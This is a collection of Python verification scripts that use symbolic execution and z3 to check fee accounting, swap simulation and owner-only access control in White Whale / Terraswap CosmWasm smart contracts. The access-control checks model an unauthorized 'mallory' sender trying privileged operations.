            ck.require(n >= 1, 'entry swap %s o%d: the kernel is never reached' % (cfg, oi))
            # simulation
            def qbody(it, kinds=kinds, oi=oi):
                c = it.ctx
                st = setup_pair(it, kinds); common_inv(c, st)
                off = c.sym('offer', 128)
                it.extra = dict(st=st, offer=off)
                return enter(it, CP, 'query', mk_env(it, 10**18), None, it.mkv(QM, 'Simulation', offer_asset=asset(it, kinds[oi], oi, off)))
            n = 0
            for p in ck.explore(prog, qbody, 'entry.simulation.%s.o%d' % (cfg, oi), validate=False, stubs={'terraswap_pair::helpers::compute_swap': spy}):
                if 'cs_args' not in p.extra: continue
                n += 1
                st = p.extra['st']; b, f = st['b'], st['f']; off = p.extra['offer']; a = p.extra['cs_args']
                ck.oblige('C02.entry.simulation.reserves.%s.o%d' % (cfg, oi), p, z3.Or(a[0] != b[oi] - f[oi], a[1] != b[ai] - f[ai], a[2] != off),
                          'the simulation is priced on the same reserves (no offer has arrived yet)', native_pred=make_pred(kinds, oi, False), nice=nice)
            ck.require(n >= 1, 'entry simulation %s o%d: the kernel is never reached' % (cfg, oi))
    ck.bounds['entry'] = 'swap entry (native and cw20-hook offers) and Simulation query of a constant-product pair, native/native and native/cw20, both directions; kernel replaced by a spy'
