"""C12, claim part: a claim never takes a flow's claimed amount above what was funded (the guard in claim.rs), from any stored
claimed amount <= funded.  Shares the claim world of the C13 check (c13_claim.py) and keeps only the funded-amount obligation."""
import c13_claim


def run(ck):
    c13_claim.run(ck, c12_only=True)
