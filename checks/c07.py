"""C07 — protocol and burn fees: every unit charged is accounted, nothing else moves."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
import lib_pool as LP_
from lib_pool import *
import lib_vault as LV

MINCOLL = 1000


def ledger_moves_inconsistent(reals, scs):
    """on the REAL swap: the fee ledgers do not move by exactly what the response reports / burns (evaluated on real outputs, for
    counterexamples found with the kernel stubbed)."""
    import base64, json as _json
    real = reals[0]['result']; sc = scs[0]
    if real.get('outcome') != 'ok': return False
    at = {a['key']: a['value'] for a in real['response'].get('attributes', [])}
    try: prot = int(at['protocol_fee_amount']); burn = int(at['burn_fee_amount'])
    except Exception: return False
    before = {bytes.fromhex(k).decode('latin1'): v for k, v in sc['storage']}
    after = {bytes.fromhex(k).decode('latin1'): v for k, v in reals[0]['storage_after']}
    def delta(ns): return [int(x['amount']) - int(y['amount']) for x, y in zip(after[ns], before[ns])]
    burned_msgs = 0
    for m in real['response']['messages']:
        b = m['msg'].get('bank', {}).get('burn')
        if b: burned_msgs += sum(int(c['amount']) for c in b['amount'])
        ex = m['msg'].get('wasm', {}).get('execute')
        if ex:
            inner = ex['msg']
            if isinstance(inner, str): inner = _json.loads(base64.b64decode(inner))
            if 'burn' in inner: burned_msgs += int(inner['burn']['amount'])
    z = [0] * (len(before['collected_protocol_fees']) - 1)
    return sorted(delta('collected_protocol_fees')) != sorted(z + [prot]) or sorted(delta('all_time_collected_protocol_fees')) != sorted(z + [prot]) or sorted(delta('all_time_burned_fees')) != sorted(z + [burn]) or burned_msgs != burn


def pair_swap(ck, prog, cfg, oi, tag=''):
    """bookkeeping of a swap against the amounts compute_swap reports (compute_swap itself: C02 / C03)."""
    kinds = KIND_CFGS[cfg]; ai = 1 - oi
    SCN = 'terraswap_pair::helpers::SwapComputation'
    def stub_cs(it, a, c):
        x = it.ctx
        return OK(it.mk(SCN, return_amount=U128(x.sym('sc_ret', 120)), spread_amount=U128(x.sym('sc_spread', 120)),
                        swap_fee_amount=U128(x.sym('sc_swap', 120)), protocol_fee_amount=U128(x.sym('sc_prot', 120)),
                        burn_fee_amount=U128(x.sym('sc_burn', 120))))
    paths = ck.explore(prog, swap_body(kinds, oi), 'pair.swap.%s.o%d%s' % (cfg, oi, tag), validate=False,
                       stubs={'terraswap_pair::helpers::compute_swap': stub_cs})
    n = 0
    ret, prot, burn = z3.Int('sc_ret'), z3.Int('sc_prot'), z3.Int('sc_burn')
    for p in paths:
        if not p.ok: continue
        n += 1
        st = p.extra['st']; f, at, ab = st['f'], st['at'], st['ab']
        eff = effects(resp_of(p), PAIR); A = aname(kinds, ai)
        nf = ledger_after(p, 'collected_protocol_fees'); nat = ledger_after(p, 'all_time_collected_protocol_fees'); nab = ledger_after(p, 'all_time_burned_fees')
        sfx = '%s.o%d%s' % (cfg, oi, tag)
        nice = [z3.Int('b0') == 10 ** 12 + (10 ** 9 if oi == 0 else 0), z3.Int('b1') == 10 ** 12 + (10 ** 9 if oi == 1 else 0), z3.Int('f0') == 10 ** 6, z3.Int('f1') == 10 ** 6, z3.Int('offer') == 10 ** 9,
                z3.Int('fee_protocol') == 10 ** 15, z3.Int('fee_swap') == 2 * 10 ** 15, z3.Int('fee_burn') == 10 ** 15, z3.Int('max_spread') == 5 * 10 ** 17, z3.Int('S') == 10 ** 12] + \
               [z3.Int(n) == 7 * 10 ** 6 for n in ('at0', 'at1', 'ab0', 'ab1')]
        kw = dict(native_pred=ledger_moves_inconsistent, nice=nice)
        ck.oblige('C07.pair.swap.ledger.' + sfx, p, z3.Or(nf[ai] != f[ai] + prot, nf[oi] != f[oi]), 'pending ledger += protocol fee on the ask asset only', **kw)
        ck.oblige('C07.pair.swap.alltime.' + sfx, p, z3.Or(nat[ai] != at[ai] + prot, nat[oi] != at[oi], nab[ai] != ab[ai] + burn, nab[oi] != ab[oi]),
                  'all-time collected/burned counters grow by exactly the charge / burn', **kw)
        ck.oblige('C07.pair.swap.burn.' + sfx, p, total(eff, 'burn', A) != burn, 'the burn message destroys exactly the burn fee of the ask asset', **kw)
        ck.oblige('C07.pair.swap.transfer.' + sfx, p, z3.Or(total(eff, 'send', A) != ret, len([e for e in eff if e.kind not in ('send', 'burn')]) != 0,
                                                           any(not same(e.asset, A) for e in eff)), 'nothing else moves: one transfer of the net return, one burn')
    ck.require(n >= 1, 'pair swap (stubbed kernel): no Ok path')


DENOM_SHAPES = ['factory/migaloo1creatoraddr/ampwhale', 'ibc/27394FB092D2ECCD56123C74F36E4C1F926001CEADA9CA97EA622B25F41E5EB2']


def with_denoms(names, fn):
    """run fn with the pool's two native assets named `names` (token-factory / ibc shaped denoms): burn and transfer handling must not depend on
    the shape of a denom."""
    import lib_pool
    old = list(lib_pool.NAMES['native']); lib_pool.NAMES['native'][:] = names
    try: return fn()
    finally: lib_pool.NAMES['native'][:] = old


def pair_collect(ck, prog, cfg):
    kinds = KIND_CFGS[cfg]
    paths = ck.explore(prog, collect_body(kinds), 'pair.collect.' + cfg)
    n = 0
    for p in paths:
        ck.sample(dict(entry='pair.execute(collect_protocol_fees)', cfg=cfg, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; f = st['f']
        eff = effects(resp_of(p), PAIR); nf = ledger_after(p, 'collected_protocol_fees')
        ck.oblige('C07.pair.collect.recipient.' + cfg, p, any(not (e.kind == 'send' and same(e.dst, 'collector')) for e in eff), 'collect transfers to the configured collector and to no one else')
        for i in (0, 1):
            sent = total(eff, 'send', aname(kinds, i))
            small = z3.And(f[i] > 0, f[i] <= MINCOLL)
            # identity: what leaves the ledger is what reaches the collector
            dropped = z3.And(small, nf[i] == 0, sent == 0)       # exactly the known behaviour: ledger zeroed, nothing sent
            ck.oblige('C07.pair.collect.identity.subthreshold.%s.a%d' % (cfg, i), p, dropped,
                      'sub-threshold pending fees are dropped from the ledger without reaching the collector', site='sub-threshold collect')
            ck.oblige('C07.pair.collect.identity.%s.a%d' % (cfg, i), p, z3.And(z3.Not(dropped), f[i] - nf[i] != sent),
                      'ledger decrease equals the amount transferred to the collector')
            ck.oblige('C07.pair.collect.exact.%s.a%d' % (cfg, i), p, z3.And(z3.Not(small), z3.Or(sent != f[i], nf[i] != 0)), 'collect transfers exactly the pending amount')
        nat = ledger_after(p, 'all_time_collected_protocol_fees')
        ck.oblige('C07.pair.collect.alltime.' + cfg, p, z3.Or(nat[0] != st['at'][0], nat[1] != st['at'][1]), 'collecting does not touch the all-time counters')
    ck.require(n >= 1, 'pair collect: no Ok path')


def pair_other_ops(ck, prog, cfg):
    kinds = KIND_CFGS[cfg]
    for name, body in (('provide', provide_body(kinds)), ('withdraw', withdraw_body(kinds))):
        for p in ck.explore(prog, body, 'pair.%s.%s' % (name, cfg)):
            if not p.ok: continue
            st = p.extra['st']
            bad = z3.Or(*[z3.Or(a != b) for ns, key in (('collected_protocol_fees', 'f'), ('all_time_collected_protocol_fees', 'at'), ('all_time_burned_fees', 'ab'))
                          for a, b in zip(ledger_after(p, ns), st[key])])
            ck.oblige('C07.pair.%s.ledgers_untouched.%s' % (name, cfg), p, bad, 'deposits and withdrawals leave the fee ledgers alone')


def vault_checks(ck, progv, kind):
    k = kind[0]; A = LV.ASSET_NAME[kind]
    n = 0
    for p in ck.explore(progv, LV.vcollect_body(kind), 'vault.collect.' + k):
        ck.sample(dict(entry='vault.execute(collect_protocol_fees)', kind=kind, outcome=p.short()))
        if not p.ok: continue
        n += 1
        st = p.extra['st']; F = st['F']
        eff = effects(resp_of(p), LV.VAULT)
        sent = total(eff, 'send', A)
        ck.oblige('C07.vault.collect.identity.' + k, p, z3.Or(sent != F, LV.vledger(p, 'collected_protocol_fees') != 0), 'vault collect sends the whole pending amount and zeroes the ledger')
        ck.oblige('C07.vault.collect.recipient.' + k, p, any(not (e.kind == 'send' and same(e.dst, 'collector') and same(e.asset, A)) for e in eff), 'to the configured collector only')
        ck.oblige('C07.vault.collect.alltime.' + k, p, z3.Or(LV.vledger(p, 'all_time_collected_protocol_fees') != st['at'], LV.vledger(p, 'all_time_burned_fees') != st['ab']),
                  'all-time counters untouched by collecting')
    ck.require(n >= 1, 'vault collect: no Ok path')
    # loans: ledger/all-time/burn (same obligations as C06.after.*, restated here for the fee-accounting property)
    for p in ck.explore(progv, LV.after_trade_body(kind), 'vault.after_trade.' + k):
        if not p.ok: continue
        st = p.extra['st']; loan = p.extra['loan']; fp, fl, fb = st['fees']
        P, Bn = z3.Int('P_spec'), z3.Int('Bn_spec')
        spec = [P * E18 <= fp * loan, (P + 1) * E18 > fp * loan, Bn * E18 <= fb * loan, (Bn + 1) * E18 > fb * loan]
        eff = effects(resp_of(p), LV.VAULT)
        ck.oblige('C07.vault.after.ledger.' + k, p, z3.Or(LV.vledger(p, 'collected_protocol_fees') != st['F'] + P,
                                                         LV.vledger(p, 'all_time_collected_protocol_fees') != st['at'] + P,
                                                         LV.vledger(p, 'all_time_burned_fees') != st['ab'] + Bn), 'ledger and all-time counters grow by exactly the charges', lemmas=spec)
        ck.oblige('C07.vault.after.burn.' + k, p, z3.Or(total(eff, 'burn', A) != Bn, any(e.kind != 'burn' for e in eff)), 'burn fee really burned, nothing else moves', lemmas=spec)
    for name, body in (('deposit', LV.deposit_body(kind)), ('withdraw', LV.withdraw_body(kind)), ('flash_loan', LV.flash_loan_body(kind))):
        for p in ck.explore(progv, body, 'vault.%s.%s' % (name, k)):
            if not p.ok: continue
            st = p.extra['st']
            ck.oblige('C07.vault.%s.ledgers_untouched.%s' % (name, k), p,
                      z3.Or(LV.vledger(p, 'collected_protocol_fees') != st['F'], LV.vledger(p, 'all_time_collected_protocol_fees') != st['at'],
                            LV.vledger(p, 'all_time_burned_fees') != st['ab']), 'only after_trade and collect touch the vault fee ledgers')


def main():
    ck = Check('C07')
    prog = ck.program('terraswap_pair', 'white_whale_std')
    for cfg, ois in (('nn', (0,)), ('nc', (0, 1)), ('cc', (1,))):
        for oi in ois: pair_swap(ck, prog, cfg, oi)
        pair_collect(ck, prog, cfg)
    pair_other_ops(ck, prog, 'nc')
    # token-factory and ibc shaped denoms as the pool's native assets, each of them once as the ask (= charged and burned) asset
    for oi in (0, 1): with_denoms(DENOM_SHAPES, lambda: (pair_swap(ck, prog, 'nn', oi, tag='.shapes'), pair_collect(ck, prog, 'nn') if oi == 0 else None))
    progv = ck.program('vault', 'white_whale_std')
    for kind in ('native', 'cw20'): vault_checks(ck, progv, kind)
    try:
        import c07_trio
        c07_trio.run(ck)
    except ImportError:
        ck.outside.append('three-asset pool part not built')
    ck.bounds.update(pools='pair: native/native, native/cw20 (both directions), cw20/cw20, + native/native with a token-factory and an ibc shaped denom (both directions); vault: native and cw20', widths='all amounts full u128',
                     kernel='swap bookkeeping is checked against a symbolic SwapComputation (compute_swap stubbed); the kernel itself is C02/C03')
    ck.outside.append('that BankMsg::Burn / cw20 Burn really destroy supply (chain model)')
    return ck.finish()


if __name__ == '__main__':
    sys.exit(run_main(main))
