"""C16 — only the owner (or the designated contract) can perform privileged operations.
Every privileged ExecuteMsg variant runs with a SYMBOLIC sender identity: Ok => sender == designated caller."""
import sys, os
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import z3
from engine.harness import *
import lib_pool as LPO, lib_vault as LV, lib_lair as LL, lib_dist as LD, lib_inc as LI
import c10 as C10, c06 as C06, c15 as C15

PN = 'white_whale_std::pool_network::'
AI = PN + 'asset::AssetInfo'
def nat(it, d): return it.mkv(AI, 'NativeToken', denom=Str(d))
def fee3(it, mod, a=10**15, b=2 * 10**15, c=0):
    f = lambda t: it.mk('white_whale_std::fee::Fee', share=DEC(t))
    return it.mk(mod + 'PoolFee', protocol_fee=f(a), swap_fee=f(b), burn_fee=f(c))


# ---- per contract: (crate, setup(it) -> None, [(variant label, msg builder(it), designated caller name)]) -----------------
def pair_setup(it): LPO.setup_pair(it, ('native', 'cw20'))
def vault_setup(it): LV.setup_vault(it, 'native')
def lair_setup(it): LL.setup_lair(it, nrec=0, bob=False)
def dist_setup(it): LD.setup_dist(it, 1, 1)
def coll_setup(it): C10.setup_coll(it)
def vrouter_setup(it): C06.router_world(it)
def _router_tables(it):
    # the factory registers the uluna/uusd pair and that pair answers the one-unit simulation add_swap_routes performs
    FQ = PN + 'factory::QueryMsg'
    info = it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')]), contract_addr=Str('the_pair'), liquidity_token=it.mkv(PN + 'asset::AssetInfo', 'Token', contract_addr=Str('the_lp')),
                 asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))
    it.world.smart_table.append(('factory_contract', it.mkv(FQ, 'Pair', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')])), info))
    sim = it.mk(PN + 'pair::SimulationResponse', return_amount=U128(it.ctx.sym('sim_ret', 64)), spread_amount=U128(0), swap_fee_amount=U128(0), protocol_fee_amount=U128(0), burn_fee_amount=U128(0))
    it.world.smart_table.append(('the_pair', it.mkv(PN + 'pair::QueryMsg', 'Simulation', offer_asset=it.mk(PN + 'asset::Asset', info=nat(it, 'uluna'), amount=U128(1))), sim))
def router_setup(it):
    C15.router_world(it); _router_tables(it)
    it.world.cinfo = dict(code_id=7, creator='deployer', admin='owner')
def router_setup_noadmin(it):
    C15.router_world(it); _router_tables(it)
    it.world.cinfo = dict(code_id=7, creator='deployer', admin=None)
def emgr_setup(it):
    EM = 'white_whale_std::epoch_manager::epoch_manager::'
    w = it.world; w.contract = 'epoch_manager_contract'
    w.item('epoch', it.mk(EM + 'EpochV2', id=3, start_time=TS(10**18)))
    w.item('config', it.mk(EM + 'Config', epoch_config=it.mk(EM + 'EpochConfig', duration=U64(86400 * 10**9), genesis_epoch=U64(10**18))))
    w.admin['admin'] = SOME(ADDR('owner')); w.hooks['hooks'] = [Str('hook_a')]
def pfactory_setup(it):
    w = it.world; w.contract = 'pool_factory_contract'
    w.item('config', it.mk('terraswap_factory::state::Config', owner=Agg('cosmwasm_std::CanonicalAddr', [Str('owner')]), fee_collector_addr=ADDR('collector'),
                           pair_code_id=11, trio_code_id=12, token_code_id=13))
    w.map('pair_info', []); w.map('trio_info', []); w.map('allow_native_token', [([Str('uluna')], 6), ([Str('uusd')], 6), ([Str('uatom')], 6)])
def vfactory_setup(it):
    w = it.world; w.contract = 'vault_factory_contract'
    w.item('config', it.mk('white_whale_std::vault_network::vault_factory::Config', owner=ADDR('owner'), vault_id=21, token_id=22, fee_collector_addr=ADDR('collector')))
    w.map('vaults', [])
def ifactory_setup(it):
    w = it.world; w.contract = 'incentive_factory_contract'
    w.item('config', it.mk(LI.IF + 'Config', owner=ADDR('owner'), fee_collector_addr=ADDR('collector'), fee_distributor_addr=ADDR('distributor'),
                           create_flow_fee=LI.masset(it, 'native', 'uwhale', 1000), max_concurrent_flows=5, incentive_code_id=31, max_flow_epoch_buffer=14,
                           min_unbonding_duration=86400, max_unbonding_duration=31556926))
    w.map('incentive_mappings', [])
def helper_setup(it):
    w = it.world; w.contract = 'frontend_helper_contract'
    w.item('config', it.mk(PN + 'frontend_helper::Config', incentive_factory_addr=ADDR('incentive_factory_contract'), owner=ADDR('owner')))
def trio_setup(it):
    import lib_trio
    lib_trio.setup_trio(it, ('native', 'native', 'cw20'))

def lair_fresh_setup(it): LL.setup_lair(it, nrec=0, bob=False, distributor='')          # as left by instantiate: no distributor linked yet
def coll_fresh_setup(it): C10.setup_coll(it, fresh=True)                                  # as left by instantiate: every address blank
def _created(r):
    if r.variant != 'Ok': raise PathPruned()
def vfactory_pop(it):
    """a factory that has registered a vault for uluna (history: CreateVault by the owner + the instantiate reply)"""
    from engine.models_cw import instantiate_reply
    vfactory_setup(it); env = mk_env(it, 10**18)
    _created(enter(it, 'vault_factory', 'execute', env, mk_info('owner', []), it.mkv(VFX, 'CreateVault', asset_info=nat(it, 'uluna'), fees=it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, 1),
                                                                                          flash_loan_fee=LV.vfee(it, 1), burn_fee=LV.vfee(it, 0)), token_factory_lp=False)))
    _created(enter(it, 'vault_factory', 'reply', env, None, instantiate_reply(1, 'vault_uluna')))
def pfactory_pop(it):
    """a factory that has registered the uluna/uusd pair"""
    from engine.models_cw import instantiate_reply
    pfactory_setup(it); env = mk_env(it, 10**18); w = it.world
    for d in ('uluna', 'uusd'):
        w.smart_table.append(('pool_factory_contract', it.mkv(PN + 'factory::QueryMsg', 'NativeTokenDecimals', denom=Str(d)), it.mk(PN + 'factory::NativeTokenDecimalsResponse', decimals=6)))
    _created(enter(it, 'terraswap_factory', 'execute', env, mk_info('owner', []), it.mkv(FX, 'CreatePair', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')]), pool_fees=fee3(it, PN + 'pair::'),
                                                                                            pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'), token_factory_lp=False)))
    info = it.mk(PN + 'asset::PairInfo', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')]), contract_addr=Str('some_pair'), liquidity_token=it.mkv(AI, 'Token', contract_addr=Str('lp_of_some_pair')),
                 asset_decimals=Agg('array', [6, 6]), pair_type=it.mkv(PN + 'asset::PairType', 'ConstantProduct'))
    w.smart_table.append(('some_pair', it.mkv(PN + 'pair::QueryMsg', 'Pair'), info))
    _created(enter(it, 'terraswap_factory', 'reply', env, None, instantiate_reply(1, 'some_pair')))
def ifactory_pop(it):
    """a factory that has registered an incentive contract for one LP denom"""
    from engine.models_cw import instantiate_reply
    ifactory_setup(it); env = mk_env(it, 10**18)
    _created(enter(it, 'incentive_factory', 'execute', env, mk_info('owner', []), it.mkv(IFX, 'CreateIncentive', lp_asset=nat(it, 'other_lp_denom'))))
    _created(enter(it, 'incentive_factory', 'reply', env, None, instantiate_reply(1, 'some_incentive', it.mk(LI.I + 'InstantiateReplyCallback', lp_asset=nat(it, 'other_lp_denom')))))


M = lambda: Str('mallory')
TX = PN + 'pair::ExecuteMsg'; FX = PN + 'factory::ExecuteMsg'; VFX = 'white_whale_std::vault_network::vault_factory::ExecuteMsg'
IFX = LI.IF + 'ExecuteMsg'; HX = PN + 'frontend_helper::ExecuteMsg'; EMX = 'white_whale_std::epoch_manager::epoch_manager::ExecuteMsg'
RX = PN + 'router::ExecuteMsg'; VRX = C06.VR + 'ExecuteMsg'; TRX = PN + 'trio::ExecuteMsg'


def route(it):
    return it.mk(PN + 'router::SwapRoute', offer_asset_info=nat(it, 'uluna'), ask_asset_info=nat(it, 'uusd'),
                 swap_operations=VecV([it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=nat(it, 'uluna'), ask_asset_info=nat(it, 'uusd'))]))

def COLL_FIELDS(it):
    return [('owner', M), ('pool_router', M), ('fee_distributor', M), ('pool_factory', M), ('vault_factory', M), ('take_rate', lambda: DEC(9 * 10**17)), ('take_rate_dao_address', M), ('is_take_rate_active', lambda: True)]

TABLE = [
 ('terraswap_pair', pair_setup, [
    ('UpdateConfig.fees', lambda it: it.mkv(TX, 'UpdateConfig', owner=NONE(), fee_collector_addr=NONE(), pool_fees=SOME(fee3(it, PN + 'pair::')), feature_toggle=NONE()), 'owner'),
    ('UpdateConfig.owner', lambda it: it.mkv(TX, 'UpdateConfig', owner=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')), pool_fees=NONE(),
                                            feature_toggle=SOME(it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=False, deposits_enabled=False, swaps_enabled=False))), 'owner')]),
 ('terraswap_pair', pair_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(TX, 'UpdateConfig', **opts(it, [('owner', M), ('fee_collector_addr', M), ('pool_fees', lambda: fee3(it, PN + 'pair::')),
                                            ('feature_toggle', lambda: it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=False, deposits_enabled=False, swaps_enabled=False))])), 'owner')]),
 ('vault', vault_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(LV.VX, 'UpdateConfig', it.mk(LV.VN + 'UpdateConfigParams', **opts(it, [('flash_loan_enabled', lambda: False), ('deposit_enabled', lambda: False), ('withdraw_enabled', lambda: False),
                                            ('new_owner', M), ('new_vault_fees', lambda: it.mk('white_whale_std::fee::VaultFee', protocol_fee=LV.vfee(it, 1), flash_loan_fee=LV.vfee(it, 1), burn_fee=LV.vfee(it, 0))),
                                            ('new_fee_collector_addr', M)]))), 'owner')]),
 ('whale_lair', lair_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(LL.WL + 'ExecuteMsg', 'UpdateConfig', **opts(it, [('owner', M), ('unbonding_period', lambda: U64(1)), ('growth_rate', lambda: DEC(10**17)), ('fee_distributor_addr', M)])), 'owner')]),
 ('whale_lair', lair_fresh_setup, [
    ('UpdateConfig.opts.fresh', lambda it: it.mkv(LL.WL + 'ExecuteMsg', 'UpdateConfig', **opts(it, [('owner', M), ('unbonding_period', lambda: U64(1)), ('growth_rate', lambda: DEC(10**17)), ('fee_distributor_addr', M)])), 'owner')]),
 ('fee_distributor', dist_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(LD.FX, 'UpdateConfig', **opts(it, [('owner', M), ('bonding_contract_addr', M), ('fee_collector_addr', M), ('grace_period', lambda: U64(22)), ('distribution_asset', lambda: nat(it, 'uatom')),
                                            ('epoch_config', lambda: it.mk(C10.EM + 'EpochConfig', duration=U64(86400 * 10**9), genesis_epoch=U64(10**18)))])), 'owner')]),
 ('fee_collector', coll_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(C10.CX, 'UpdateConfig', **opts(it, COLL_FIELDS(it))), 'owner')]),
 ('fee_collector', coll_fresh_setup, [
    ('UpdateConfig.opts.fresh', lambda it: it.mkv(C10.CX, 'UpdateConfig', **opts(it, COLL_FIELDS(it))), 'owner')]),
 ('vault_router', vrouter_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(VRX, 'UpdateConfig', **opts(it, [('owner', M), ('vault_factory_addr', M)])), 'owner')]),
 ('epoch_manager', emgr_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(EMX, 'UpdateConfig', **opts(it, [('owner', M), ('epoch_config', lambda: it.mk(C10.EM + 'EpochConfig', duration=U64(86400 * 10**9), genesis_epoch=U64(10**18)))])), 'owner')]),
 ('terraswap_factory', pfactory_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(FX, 'UpdateConfig', **opts(it, [('owner', M), ('fee_collector_addr', M), ('token_code_id', lambda: 1), ('pair_code_id', lambda: 1), ('trio_code_id', lambda: 1)])), 'owner')]),
 ('terraswap_factory', pfactory_pop, [
    ('RemovePair.registered', lambda it: it.mkv(FX, 'RemovePair', asset_infos=Agg('array', [nat(it, 'uluna'), nat(it, 'uusd')])), 'owner'),
    ('MigratePair.registered', lambda it: it.mkv(FX, 'MigratePair', contract=Str('some_pair'), code_id=SOME(99)), 'owner'),
    ('UpdatePairConfig.registered', lambda it: it.mkv(FX, 'UpdatePairConfig', pair_addr=Str('some_pair'), **opts(it, [('owner', M), ('fee_collector_addr', M), ('pool_fees', lambda: fee3(it, PN + 'pair::')),
                                            ('feature_toggle', lambda: it.mk(PN + 'pair::FeatureToggle', withdrawals_enabled=False, deposits_enabled=False, swaps_enabled=False))])), 'owner')]),
 ('vault_factory', vfactory_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(VFX, 'UpdateConfig', **opts(it, [('owner', M), ('fee_collector_addr', M), ('vault_id', lambda: 1), ('token_id', lambda: 1)])), 'owner')]),
 ('vault_factory', vfactory_pop, [
    ('RemoveVault.registered', lambda it: it.mkv(VFX, 'RemoveVault', asset_info=nat(it, 'uluna')), 'owner'),
    ('MigrateVaults.registered', lambda it: it.mkv(VFX, 'MigrateVaults', vault_addr=SOME(Str('vault_uluna')), vault_code_id=99), 'owner'),
    ('MigrateVaults.all', lambda it: it.mkv(VFX, 'MigrateVaults', vault_addr=NONE(), vault_code_id=99), 'owner'),
    ('UpdateVaultConfig.registered', lambda it: it.mkv(VFX, 'UpdateVaultConfig', vault_addr=Str('vault_uluna'), params=it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=SOME(False), deposit_enabled=NONE(),
                                                       withdraw_enabled=NONE(), new_owner=SOME(Str('mallory')), new_vault_fees=NONE(), new_fee_collector_addr=NONE())), 'owner')]),
 ('incentive_factory', ifactory_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(IFX, 'UpdateConfig', **opts(it, [('owner', M), ('fee_collector_addr', M), ('fee_distributor_addr', M), ('create_flow_fee', lambda: LI.masset(it, 'native', 'uwhale', 1)),
                                            ('max_concurrent_flows', lambda: 1), ('incentive_code_id', lambda: 1), ('max_flow_start_time_buffer', lambda: 1), ('min_unbonding_duration', lambda: 86400),
                                            ('max_unbonding_duration', lambda: 31556926)])), 'owner')]),
 ('incentive_factory', ifactory_pop, [
    ('MigrateIncentives.registered', lambda it: it.mkv(IFX, 'MigrateIncentives', incentive_address=SOME(Str('some_incentive')), code_id=99), 'owner'),
    ('MigrateIncentives.all', lambda it: it.mkv(IFX, 'MigrateIncentives', incentive_address=NONE(), code_id=99), 'owner')]),
 ('frontend_helper', helper_setup, [
    ('UpdateConfig.opts', lambda it: it.mkv(HX, 'UpdateConfig', **opts(it, [('incentive_factory_addr', M), ('owner', M)])), 'owner')]),
 ('vault', vault_setup, [
    ('UpdateConfig', lambda it: it.mkv(LV.VX, 'UpdateConfig', it.mk(LV.VN + 'UpdateConfigParams', flash_loan_enabled=SOME(False), deposit_enabled=SOME(False), withdraw_enabled=SOME(False),
                                                                     new_owner=SOME(Str('mallory')), new_vault_fees=NONE(), new_fee_collector_addr=SOME(Str('mallory')))), 'owner'),
    ('Callback.AfterTrade', lambda it: it.mkv(LV.VX, 'Callback', it.mkv(LV.VN + 'CallbackMsg', 'AfterTrade', old_balance=U128(0), loan_amount=U128(0))), LV.VAULT)]),
 ('whale_lair', lair_setup, [
    ('UpdateConfig', lambda it: it.mkv(LL.WL + 'ExecuteMsg', 'UpdateConfig', owner=SOME(Str('mallory')), unbonding_period=SOME(U64(1)), growth_rate=SOME(DEC(10**18)), fee_distributor_addr=SOME(Str('mallory'))), 'owner')]),
 ('fee_distributor', dist_setup, [
    ('UpdateConfig', lambda it: it.mkv(LD.FX, 'UpdateConfig', owner=SOME(Str('mallory')), bonding_contract_addr=SOME(Str('mallory')), fee_collector_addr=SOME(Str('mallory')),
                                       grace_period=NONE(), distribution_asset=SOME(nat(it, 'uatom')), epoch_config=NONE()), 'owner')]),
 ('fee_collector', coll_setup, [
    ('UpdateConfig', lambda it: it.mkv(C10.CX, 'UpdateConfig', owner=SOME(Str('mallory')), pool_router=SOME(Str('mallory')), fee_distributor=SOME(Str('mallory')), pool_factory=NONE(),
                                       vault_factory=NONE(), take_rate=SOME(DEC(9 * 10**17)), take_rate_dao_address=SOME(Str('mallory')), is_take_rate_active=SOME(True)), 'owner'),
    ('ForwardFees', lambda it: it.mkv(C10.CX, 'ForwardFees', epoch=C10.mk_epoch(it, it.ctx), forward_fees_as=nat(it, 'uwhale')), C10.DIST)]),
 ('vault_router', vrouter_setup, [
    ('UpdateConfig', lambda it: it.mkv(VRX, 'UpdateConfig', owner=SOME(Str('mallory')), vault_factory_addr=SOME(Str('mallory'))), 'owner'),
    ('CompleteLoan', lambda it: it.mkv(VRX, 'CompleteLoan', initiator=ADDR('mallory'), loaned_assets=VecV([])), C06.ROUTER)]),
 ('terraswap_router', router_setup, [
    ('AddSwapRoutes', lambda it: it.mkv(RX, 'AddSwapRoutes', swap_routes=VecV([route(it)])), 'owner'),
    ('RemoveSwapRoutes', lambda it: it.mkv(RX, 'RemoveSwapRoutes', swap_routes=VecV([route(it)])), 'owner'),
    ('ExecuteSwapOperation', lambda it: it.mkv(RX, 'ExecuteSwapOperation', operation=it.mkv(PN + 'router::SwapOperation', 'TerraSwap', offer_asset_info=nat(it, 'uluna'), ask_asset_info=nat(it, 'uusd')),
                                               to=SOME(Str('mallory')), max_spread=NONE()), C15.ROUTER)]),
